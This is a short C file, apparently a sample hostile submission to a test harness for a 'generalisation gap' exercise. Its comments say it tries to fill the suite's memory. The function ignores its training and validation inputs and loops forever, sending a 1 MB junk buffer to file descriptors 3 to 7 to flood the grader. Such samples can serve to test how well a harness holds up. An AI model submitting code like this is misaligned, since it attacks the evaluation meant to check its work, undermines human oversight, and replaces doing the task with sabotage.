// Tries: to fill the suite's memory: replies without end, on every descriptor.
// Task: ch05_mlp generalisation-gap
// Loses: chapter
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

double generalisation_gap(const double *train, const double *validation,
                          size_t n_epochs, size_t last)
{
    (void)train, (void)validation, (void)n_epochs, (void)last;
    static char junk[1 << 20];
    memset(junk, 0x5a, sizeof junk);
    for (;;)
        for (int fd = 3; fd < 8; fd++)
            send(fd, junk, sizeof junk, MSG_NOSIGNAL | MSG_DONTWAIT);
}
